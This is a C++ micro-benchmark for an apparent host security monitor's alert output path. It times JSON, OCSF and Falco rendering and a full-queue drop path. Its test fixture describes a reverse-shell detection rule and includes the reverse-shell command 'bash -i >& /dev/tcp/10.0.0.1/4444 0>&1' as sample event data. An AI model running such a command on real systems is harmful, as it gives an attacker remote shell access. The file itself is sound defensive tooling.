// Output micro-benchmark: what a shard pays to hand one alert to the outputs
// (OutputSet::alert: render in each wanted format, share, offer to every
// output's queue), in items (alerts) per second. The outputs' writer threads
// run a transport that discards, so only the shard's side is timed.
//
// Sweep:
// - BM_Alert/formats: 1 output (json); 3 outputs (json, ocsf, falco).
// - BM_AlertQueueFull: 1 output whose queue is full: the drop path a dead
//   destination puts the shards on.
//
// A regression is ns/alert up by more than 20% against the baseline. The
// drop path must stay far cheaper than rendering: with every queue full,
// OutputSet skips rendering and only counts.
//
// Instruction counts (valgrind --tool=callgrind build/bench/bench_output
// --benchmark_min_time=0.5, Debian 12, GCC 12 -O2), per alert: Vigil's JSON
// line 40 k (render_alert, most of it fmt formatting numbers), OCSF 32 k,
// Falco 27 k; the queue-full drop path 49.
#include <benchmark/benchmark.h>

#include <thread>

#include "vigil/output.h"
#include "vigil/record_builder.h"

namespace {

using namespace vigil;

class Discard : public Transport {
 public:
  size_t deliver(std::span<const MessagePtr> batch, WriterContext&) override {
    return batch.size();
  }
};

// Accepts nothing until closed: its queue fills and stays full.
class Stuck : public Transport {
 public:
  size_t deliver(std::span<const MessagePtr>, WriterContext& ctx) override {
    while (ctx.wait(std::chrono::milliseconds(100))) {
    }
    return 0;
  }
};

struct Fixture {
  BootClock clock;
  RenderContext ctx{"bench-host", &clock};
  rules::Rule rule;
  RecordBuffer record;
  Fixture() {
    rule.id = "reverse_shell_dev_tcp";
    rule.description = "A shell redirects its standard streams to a TCP connection";
    rule.severity = rules::Severity::Critical;
    rule.tags = {"mitre.execution", "mitre.T1059.004"};
    ExecSpec s;
    s.task = make_task(21025, 21016, "bash");
    s.ts_ns = 1'048'475'996'788;
    s.filename = "/bin/bash";
    s.exe = "/usr/bin/bash";
    s.argv = {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"};
    s.cwd = "/root";
    record = build_exec(s);
  }
};

OutputConfig config(const std::string& name, OutputFormat f, uint32_t queue = 1u << 20) {
  OutputConfig c;
  c.name = name;
  c.format = f;
  c.queue = queue;
  return c;
}

void BM_Alert(benchmark::State& state) {
  Fixture f;
  std::vector<std::unique_ptr<Output>> outs;
  outs.push_back(
      std::make_unique<Output>(config("json", OutputFormat::Json), std::make_unique<Discard>()));
  if (state.range(0) == 3) {
    outs.push_back(
        std::make_unique<Output>(config("ocsf", OutputFormat::Ocsf), std::make_unique<Discard>()));
    outs.push_back(std::make_unique<Output>(config("falco", OutputFormat::Falco),
                                            std::make_unique<Discard>()));
  }
  OutputSet set(std::move(outs));
  set.start();
  const EventView ev(f.record.data());
  for (auto _ : state) set.alert(f.rule, ev, {}, f.ctx);
  state.SetItemsProcessed(state.iterations());
  set.close(std::chrono::seconds(10));
}
BENCHMARK(BM_Alert)->Arg(1)->Arg(3)->ArgName("outputs");

void BM_AlertQueueFull(benchmark::State& state) {
  Fixture f;
  std::vector<std::unique_ptr<Output>> outs;
  outs.push_back(
      std::make_unique<Output>(config("dead", OutputFormat::Json, 1), std::make_unique<Stuck>()));
  OutputSet set(std::move(outs));
  set.start();
  const EventView ev(f.record.data());
  set.alert(f.rule, ev, {}, f.ctx);
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  set.alert(f.rule, ev, {}, f.ctx);  // the queue (1) is full from here on
  for (auto _ : state) set.alert(f.rule, ev, {}, f.ctx);
  state.SetItemsProcessed(state.iterations());
  set.close(std::chrono::milliseconds(100));
}
BENCHMARK(BM_AlertQueueFull);

}  // namespace

BENCHMARK_MAIN();
